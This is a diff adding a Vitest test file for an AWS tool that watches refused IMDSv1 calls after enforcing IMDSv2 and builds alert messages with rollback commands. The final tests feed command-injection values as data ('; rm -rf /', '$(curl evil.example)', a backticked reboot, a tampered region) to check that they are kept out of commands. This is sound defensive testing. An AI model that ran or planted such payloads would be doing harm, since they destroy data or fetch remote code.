@@ -1,0 +1,378 @@
+import { Logger } from "@aws-lambda-powertools/logger";
+import {
+  CloudWatchClient,
+  CloudWatchServiceException,
+  GetMetricDataCommand,
+  type MetricDataResult,
+} from "@aws-sdk/client-cloudwatch";
+import { EC2Client, GetInstanceMetadataDefaultsCommand } from "@aws-sdk/client-ec2";
+import { mockClient } from "aws-sdk-client-mock";
+import { beforeEach, describe, expect, it } from "vitest";
+import { z } from "zod";
+import { cloudwatch, ec2 } from "../../shared/aws-clients.js";
+import type { EventRef, InstanceResult } from "../../shared/model.js";
+import {
+  type CheckRejectedInput,
+  checkRejectedCalls,
+  type RejectedAlertInput,
+  rejectedCallsMessage,
+  watchListOf,
+} from "../../shared/watch-rejected.js";
+
+const ec2Mock = mockClient(EC2Client);
+const cloudWatchMock = mockClient(CloudWatchClient);
+const logger = new Logger({ serviceName: "watch-test", logLevel: "SILENT" });
+
+const ID_A = "i-0a1b2c3d4e5f60001";
+const ID_B = "i-0a1b2c3d4e5f60002";
+const ID_C = "i-0a1b2c3d4e5f60003";
+const SINCE = "2026-11-28T10:01:00.000Z";
+const NOW = new Date("2026-11-28T10:20:00.000Z");
+
+const EVENT: EventRef = {
+  eventId: "3b2a1c0d-9e8f-4a7b-b6c5-d4e3f2a1b0c9",
+  eventName: "ModifyInstanceMetadataOptions",
+  eventTime: "2026-11-28T09:58:11Z",
+  actor: "arn:aws:iam::123456789012:user/legacy-ci",
+  account: "123456789012",
+  region: "eu-west-1",
+  source: "cloudtrail",
+};
+
+function result(instanceId: string, extra: Partial<InstanceResult>): InstanceResult {
+  return { instanceId, verdict: "pass", reason: "r", warnings: [], ...extra };
+}
+
+function rejectedCalls(...perInstance: number[][]): void {
+  const results: MetricDataResult[] = perInstance.map((values, n) => ({
+    Id: `m${n}`,
+    StatusCode: "Complete",
+    Values: values,
+  }));
+  cloudWatchMock.on(GetMetricDataCommand).resolves({ MetricDataResults: results });
+}
+
+function watchInput(instanceIds: string[]): CheckRejectedInput {
+  return { event: EVENT, watch: { instanceIds, since: SINCE, count: instanceIds.length } };
+}
+
+function deps() {
+  return { cloudwatch, ec2, logger, now: () => NOW };
+}
+
+function alert(
+  rejected: Partial<RejectedAlertInput["rejected"]> = {},
+  event: Partial<EventRef> = {},
+): RejectedAlertInput {
+  return {
+    alert: "rejected-calls",
+    event: { ...EVENT, ...event },
+    rejected: {
+      count: 2,
+      instances: [
+        { instanceId: ID_A, rejectedCalls: 12 },
+        { instanceId: ID_B, rejectedCalls: 1 },
+      ],
+      windowStart: SINCE,
+      windowEnd: NOW.toISOString(),
+      rollbackPossible: true,
+      ...rejected,
+    },
+  };
+}
+
+const protocolsSchema = z.strictObject({
+  default: z.string(),
+  email: z.string(),
+  https: z.string(),
+  sqs: z.string(),
+  lambda: z.string(),
+});
+const chatbotSchema = z.looseObject({
+  content: z.looseObject({ title: z.string(), description: z.string(), nextSteps: z.array(z.string()) }),
+});
+
+function protocols(input: RejectedAlertInput) {
+  return protocolsSchema.parse(JSON.parse(rejectedCallsMessage(input).Message));
+}
+
+const rollback = (id: string, region = "eu-west-1") =>
+  `aws ec2 modify-instance-metadata-options --region ${region} --instance-id ${id} --http-tokens optional`;
+
+beforeEach(() => {
+  ec2Mock.reset();
+  cloudWatchMock.reset();
+});
+
+describe("watchListOf", () => {
+  it("keeps only the instances this execution switched to required, from the earliest enforcement", () => {
+    // Prepare
+    const results = [
+      result(ID_A, { action: "set HttpTokens=required (was optional)", enforcedAt: "2026-11-28T10:03:00.000Z" }),
+      result(ID_B, {
+        verdict: "unverified",
+        action: "set HttpTokens=required (was optional)",
+        enforcedAt: "2026-11-28T10:01:00.000Z",
+      }),
+      result(ID_C, { action: "none: HttpTokens was already required" }),
+      result("i-0a1b2c3d4e5f60004", { action: "audit: would set HttpTokens=required (now optional)" }),
+      result("i-0a1b2c3d4e5f60005", { verdict: "held", action: "none: held" }),
+      result("i-0a1b2c3d4e5f60006", { verdict: "exempt", action: "none: exempt" }),
+      result("i-0a1b2c3d4e5f60007", { verdict: "error" }),
+    ];
+
+    // Act
+    const watch = watchListOf(results);
+
+    // Assess
+    expect(watch).toEqual({ instanceIds: [ID_A, ID_B], since: "2026-11-28T10:01:00.000Z", count: 2 });
+  });
+
+  it("has nothing to watch when nothing was switched", () => {
+    // Prepare
+    const results = [result(ID_A, { action: "none: HttpTokens was already required" })];
+
+    // Act
+    const watch = watchListOf(results);
+
+    // Assess
+    expect(watch.count).toBe(0);
+    expect(watch.instanceIds).toEqual([]);
+  });
+});
+
+describe("checkRejectedCalls", () => {
+  it("sums MetadataNoTokenRejected per instance over [since, now] with one GetMetricData", async () => {
+    // Prepare
+    rejectedCalls([], [2, 3], [0]);
+    ec2Mock.on(GetInstanceMetadataDefaultsCommand).resolves({ AccountLevel: { HttpTokens: "optional" } });
+
+    // Act
+    const out = await checkRejectedCalls(watchInput([ID_A, ID_B, ID_C]), deps());
+
+    // Assess
+    const calls = cloudWatchMock.commandCalls(GetMetricDataCommand).map((c) => c.args[0].input);
+    expect(calls).toHaveLength(1);
+    expect(calls[0]?.StartTime).toEqual(new Date(SINCE));
+    expect(calls[0]?.EndTime).toEqual(NOW);
+    const queries = calls[0]?.MetricDataQueries ?? [];
+    expect(queries).toHaveLength(3);
+    for (const [n, id] of [ID_A, ID_B, ID_C].entries()) {
+      expect(queries[n]?.MetricStat).toMatchObject({
+        Metric: {
+          Namespace: "AWS/EC2",
+          MetricName: "MetadataNoTokenRejected",
+          Dimensions: [{ Name: "InstanceId", Value: id }],
+        },
+        Stat: "Sum",
+      });
+      expect((queries[n]?.MetricStat?.Period ?? 0) % 60).toBe(0);
+    }
+    expect(out).toEqual({
+      count: 1,
+      instances: [{ instanceId: ID_B, rejectedCalls: 5 }],
+      windowStart: SINCE,
+      windowEnd: NOW.toISOString(),
+      rollbackPossible: true,
+    });
+  });
+
+  it("follows NextToken pages and adds them up", async () => {
+    // Prepare
+    cloudWatchMock
+      .on(GetMetricDataCommand)
+      .resolvesOnce({ MetricDataResults: [{ Id: "m0", Values: [1] }], NextToken: "page-2" })
+      .resolvesOnce({ MetricDataResults: [{ Id: "m0", Values: [4] }] });
+    ec2Mock.on(GetInstanceMetadataDefaultsCommand).resolves({ AccountLevel: { HttpTokens: "optional" } });
+
+    // Act
+    const out = await checkRejectedCalls(watchInput([ID_A]), deps());
+
+    // Assess
+    const tokens = cloudWatchMock.commandCalls(GetMetricDataCommand).map((c) => c.args[0].input.NextToken);
+    expect(tokens).toEqual([undefined, "page-2"]);
+    expect(out.instances).toEqual([{ instanceId: ID_A, rejectedCalls: 5 }]);
+  });
+
+  it("does not read the account defaults when nothing was refused", async () => {
+    // Prepare
+    rejectedCalls([], [0, 0]);
+
+    // Act
+    const out = await checkRejectedCalls(watchInput([ID_A, ID_B]), deps());
+
+    // Assess
+    expect(ec2Mock.commandCalls(GetInstanceMetadataDefaultsCommand)).toHaveLength(0);
+    expect(out).toMatchObject({ count: 0, instances: [], rollbackPossible: true });
+  });
+
+  it.each([
+    { enforced: "enabled", possible: false },
+    { enforced: "disabled", possible: true },
+    { enforced: undefined, possible: true },
+  ] as const)(
+    "says rollback is possible: $possible when HttpTokensEnforced is $enforced",
+    async ({ enforced, possible }) => {
+      // Prepare
+      rejectedCalls([7]);
+      ec2Mock
+        .on(GetInstanceMetadataDefaultsCommand)
+        .resolves({ AccountLevel: { HttpTokens: "required", ...(enforced ? { HttpTokensEnforced: enforced } : {}) } });
+
+      // Act
+      const out = await checkRejectedCalls(watchInput([ID_A]), deps());
+
+      // Assess
+      expect(ec2Mock.commandCalls(GetInstanceMetadataDefaultsCommand)).toHaveLength(1);
+      expect(out.rollbackPossible).toBe(possible);
+      expect(out.count).toBe(1);
+    },
+  );
+
+  it.each([
+    { code: "Throttling", status: 400, expected: "RetryableThrottlingError" },
+    { code: "InternalServiceFault", status: 500, expected: "RetryableServiceError" },
+    { code: "AccessDenied", status: 403, expected: "NonRetryableAwsError" },
+  ])("throws $expected when GetMetricData fails with $code", async ({ code, status, expected }) => {
+    // Prepare
+    const cause = new CloudWatchServiceException({
+      name: code,
+      $fault: status >= 500 ? "server" : "client",
+      $metadata: { httpStatusCode: status },
+      message: "simulated",
+    });
+    cloudWatchMock.on(GetMetricDataCommand).rejects(cause);
+
+    // Act
+    const run = checkRejectedCalls(watchInput([ID_A]), deps());
+
+    // Assess
+    await expect(run).rejects.toMatchObject({
+      name: expected,
+      message: expect.stringContaining("GetMetricData MetadataNoTokenRejected"),
+      cause,
+    });
+  });
+});
+
+describe("rejectedCallsMessage", () => {
+  it("has an ASCII subject under 100 characters and the attribute verdict alert", () => {
+    // Prepare
+    const input = alert();
+
+    // Act
+    const message = rejectedCallsMessage(input);
+
+    // Assess
+    expect(message.Subject).toMatch(/^[\x20-\x7e]+$/);
+    expect(message.Subject.length).toBeLessThan(100);
+    expect(message.Subject).toContain("ALERT");
+    expect(message.MessageStructure).toBe("json");
+    expect(message.MessageAttributes.verdict).toEqual({ DataType: "String", StringValue: "alert" });
+    expect(message.MessageAttributes.verdicts).toEqual({ DataType: "String.Array", StringValue: '["alert"]' });
+  });
+
+  it("keeps the subject ASCII, on one line and under 100 characters whatever the region holds", () => {
+    // Prepare
+    const input = alert({ count: 123_456 }, { region: `eu-west-1\nSubject: PASS 🚀 ${"x".repeat(200)}` });
+
+    // Act
+    const subject = rejectedCallsMessage(input).Subject;
+
+    // Assess
+    expect(subject).toMatch(/^[\x20-\x7e]+$/);
+    expect(subject.length).toBeLessThan(100);
+  });
+
+  it("gives the exact rollback command for each instance when rollback is possible", () => {
+    // Prepare
+    const input = alert();
+
+    // Act
+    const { email, default: text, https } = protocols(input);
+
+    // Assess
+    for (const body of [email, text]) {
+      const lines = body.split("\n");
+      expect(lines).toContain(`  ${rollback(ID_A)}`);
+      expect(lines).toContain(`  ${rollback(ID_B)}`);
+      expect(body).toContain(`- ${ID_A}: 12 refused IMDSv1 call(s)`);
+      expect(body).toContain("To roll back");
+      expect(body).toContain(`${SINCE} to ${NOW.toISOString()}`);
+    }
+    const chatbot = chatbotSchema.parse(JSON.parse(https));
+    expect(chatbot.content.nextSteps).toEqual(
+      expect.arrayContaining([`\`${rollback(ID_A)}\``, `\`${rollback(ID_B)}\``]),
+    );
+  });
+
+  it("explains why rollback is impossible, with no rollback command, when HttpTokensEnforced is on", () => {
+    // Prepare
+    const input = alert({ rollbackPossible: false });
+
+    // Act
+    const message = rejectedCallsMessage(input);
+    const { email, https } = protocols(input);
+
+    // Assess
+    expect(message.Message).not.toContain("--http-tokens optional");
+    expect(email).toContain("Rollback is impossible");
+    expect(email).toContain("HttpTokensEnforced is enabled");
+    const chatbot = chatbotSchema.parse(JSON.parse(https));
+    expect(chatbot.content.nextSteps).toEqual([expect.stringContaining("Rollback is impossible")]);
+  });
+
+  it("carries the counts and the event in the machine copy", () => {
+    // Prepare
+    const input = alert();
+
+    // Act
+    const { sqs, lambda } = protocols(input);
+
+    // Assess
+    for (const body of [sqs, lambda]) {
+      expect(JSON.parse(body)).toEqual({
+        schema: "imdsv2-guard.rejected-calls.v1",
+        event: EVENT,
+        ...input.rejected,
+      });
+    }
+  });
+
+  it.each([
+    "i-0a1b2c3d4e5f60001; rm -rf /",
+    "i-0a1b2c3d4e5f60001 --http-tokens optional --region us-east-1",
+    "$(curl evil.example)",
+    "i-0a1b2c3d4e5f6000`reboot`",
+  ])("does not put a hostile instance id (%j) into a command", (hostile) => {
+    // Prepare
+    const input = alert({
+      count: 2,
+      instances: [
+        { instanceId: ID_A, rejectedCalls: 3 },
+        { instanceId: hostile, rejectedCalls: 4 },
+      ],
+    });
+
+    // Act
+    const { email, https } = protocols(input);
+
+    // Assess
+    const commands = email.split("\n").filter((l) => l.includes("aws ec2"));
+    expect(commands).toEqual([`  ${rollback(ID_A)}`]);
+    const chatbot = chatbotSchema.parse(JSON.parse(https));
+    expect(chatbot.content.nextSteps.filter((s) => s.includes(hostile))).toEqual([]);
+    expect(chatbot.content.description.split("\n")).toHaveLength(3);
+  });
+
+  it("does not put a malformed region into the rollback command", () => {
+    // Prepare
+    const input = alert({}, { region: "eu-west-1; rm -rf ~" });
+
+    // Act
+    const message = rejectedCallsMessage(input);
+
+    // Assess
+    expect(message.Message).not.toContain("--region eu-west-1; rm -rf ~");
+  });
+});
